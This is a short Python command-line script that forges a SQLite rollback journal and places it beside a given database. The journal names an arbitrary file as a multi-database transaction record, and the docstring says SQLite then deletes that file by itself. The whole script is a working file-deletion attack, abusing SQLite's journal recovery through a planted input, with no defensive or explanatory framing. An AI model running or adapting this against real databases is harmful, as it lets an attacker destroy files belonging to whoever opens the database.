"""planted_journal.py DATABASE NAME: puts a journal next to a database of SQLite's, without a page, that names a file as that of a transaction of several
databases, which SQLite by itself removes: sqlite.org/fileformat2.html, 3."""
import os
import struct
import sys


def journal(path, name):
    page = struct.unpack(">H", open(path, "rb").read(18)[16:])[0]
    magic = bytes.fromhex("d9d505f920a163d7")
    head = (magic + struct.pack(">IIIII", 0, 12345, os.path.getsize(path) // page, 512, page)).ljust(512, b"\0")
    return head + struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name)) + magic


def plant(path, name):
    with open(path + "-journal", "wb") as out:
        out.write(journal(path, os.fsencode(name)))


if __name__ == "__main__":
    plant(*sys.argv[1:])
